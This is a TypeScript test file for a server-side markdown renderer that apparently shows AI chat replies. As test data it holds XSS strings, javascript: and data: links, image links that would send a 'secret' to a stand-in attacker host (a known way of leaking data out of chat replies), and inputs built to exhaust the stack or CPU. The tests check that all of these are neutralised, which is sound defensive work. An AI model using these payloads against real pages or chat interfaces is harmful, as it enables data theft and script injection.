import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { blocksOf } from "./blocks";
import { ServerMarkdown } from "./server-markdown";

const html = (text: string) => renderToStaticMarkup(<ServerMarkdown text={text} />);

describe("what a reply may contain", () => {
  test("tables, lists, links and emphasis", () => {
    const shown = html(
      "# Title\n\n**bold** [site](https://example.com)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done",
    );
    for (const part of [
      "<h1>Title</h1>",
      "<strong>bold</strong>",
      'rel="noopener noreferrer nofollow"',
      "<td>1</td>",
      "checkbox",
    ])
      expect(shown).toContain(part);
  });

  test("code is coloured and can be copied", () => {
    const shown = html("```ts\nconst a = 1;\n```");
    expect(shown).toContain("hljs-keyword");
    expect(shown).toContain("Copy code");
  });

  test("math in the three ways that models write it", () => {
    for (const text of ["$a^2$", "\\(a^2\\)", "$$\na^2\n$$"]) expect(html(text)).toContain("<msup>");
    expect(html("`\\(a\\)` costs $5")).not.toContain("<math");
  });

  test("text that looks like HTML is text", () => {
    const shown = html('<script>alert(1)</script><img src=x onerror="alert(1)">');
    expect(shown).not.toContain("<script");
    expect(shown).not.toContain("<img");
  });
});

describe("what must not leave the page", () => {
  test.each([
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "![x](//evil.example/p.png)",
  ])("no picture from elsewhere is fetched: %s", (text) => {
    const shown = html(text);
    expect(shown).not.toContain("<img");
    expect(shown).not.toContain("preload");
  });

  test("addresses that run something are emptied", () => {
    expect(html("[x](javascript:alert(1)) [y](data:text/html,x) [z](vbscript:x)")).not.toMatch(
      /javascript:|data:|vbscript:/,
    );
  });
});

describe("texts that would overflow the stack or take seconds are shown as they were written", () => {
  const hostile: [string, string][] = [
    ["nested lists in one line", "- ".repeat(2000)],
    ["nested quotes", ">".repeat(10_000)],
    ["a longer run of quotes", ">".repeat(50_000)],
    ["open links", "[a](".repeat(20_000)],
    ["open brackets", "[".repeat(50_000)],
    ["open pictures", "![".repeat(20_000)],
    ["emphasis", "*a ".repeat(30_000)],
    ["mixed emphasis", "*a_ ".repeat(20_000)],
    ["nested lists by indentation", Array.from({ length: 500 }, (_, i) => `${"  ".repeat(i)}- a`).join("\n")],
    ["ordered lists in one line", "1. ".repeat(3000)],
    ["alternating containers", "> - ".repeat(3000)],
    ["code marks", "`".repeat(50_000)],
    ["rising code marks", Array.from({ length: 300 }, (_, i) => "`".repeat(i)).join(" ")],
    ["tags", "<a ".repeat(20_000)],
    ["a wide table", `${"|a".repeat(5000)}\n${"|-".repeat(5000)}\n${"|b".repeat(5000)}`],
    ["math", "$\\frac{".repeat(4000)],
    ["braces in math", `$${"{".repeat(3000)}${"}".repeat(3000)}$`],
    ["macros", "$\\def\\a{\\a\\a}\\a$"],
    ["footnotes", Array.from({ length: 2000 }, (_, i) => `[^${i}]: [^${i + 1}]`).join("\n")],
    ["entities", "&amp;".repeat(20_000)],
    ["lazy quotes", Array.from({ length: 300 }, (_, i) => `${"> ".repeat(i % 40)}x`).join("\n")],
    ["strikethrough", "~~a ".repeat(20_000)],
    ["addresses", "www.a.b ".repeat(12_000)],
    ["e-mail addresses", "a@b.c ".repeat(16_000)],
    ["headings", "# a\n".repeat(20_000)],
    ["one long line", "a".repeat(100_000)],
    ["many lines", "a\n".repeat(50_000)],
    ["many blocks", "a\n\n".repeat(30_000)],
    ["as deep as is allowed", `${"> ".repeat(20)}x\n`.repeat(900)],
    ["as many lists as are allowed", `${"- ".repeat(20)}x\n`.repeat(200)],
    ["as many brackets as are allowed", "[a](".repeat(400)],
    ["as many marks as are allowed", "*a_ ".repeat(3000)],
    ["as many unequal marks as are allowed", "*a **b ".repeat(2000)],
    ["as many open tags as are allowed", "<a b='".repeat(3000)],
  ];
  test.each(hostile)("%s", (_, text) => {
    const before = process.cpuUsage();
    const shown = html(text.slice(0, 100_000));
    // Of this process alone: what else the machine does must not count. In microseconds.
    const { user, system } = process.cpuUsage(before);
    expect(user + system).toBeLessThan(3_000_000);
    expect(shown.length).toBeGreaterThan(10);
  });
});

describe("blocksOf", () => {
  const long = "word ".repeat(50);

  test("cuts between paragraphs, never inside of code, math or lists", () => {
    expect(blocksOf(`${long}\n\nb`)).toEqual([`${long}\n`, "b"]);
    expect(blocksOf(`\`\`\`\n${long}\n\nb\n\`\`\`\n\nc`)).toEqual([`\`\`\`\n${long}\n\nb\n\`\`\`\n`, "c"]);
    expect(blocksOf(`$$\n${long}\n\nb\n$$`)).toHaveLength(1);
    expect(blocksOf(`1. ${long}\n\n2. b\n\n   more\n\nc`)).toHaveLength(2);
    expect(blocksOf(`[a][1]${long}\n\nb\n\n[1]: https://example.com`)).toHaveLength(1);
  });

  test("gives back every character", () => {
    const text = `${long}\n\n\n\`\`\`x\n\n~~~\n\`\`\`\n\n- ${long}\n\nc`;
    expect(blocksOf(text).join("\n")).toBe(text);
  });

  test("an earlier block stays the same while the text grows", () => {
    const text = `${long}\n\n${long}\n\n- ${long}\n\n- b\n\n${long}`;
    for (let length = 1; length < text.length; length++) {
      const before = blocksOf(text.slice(0, length)).slice(0, -1);
      expect(blocksOf(text).slice(0, before.length)).toEqual(before);
    }
  });
});
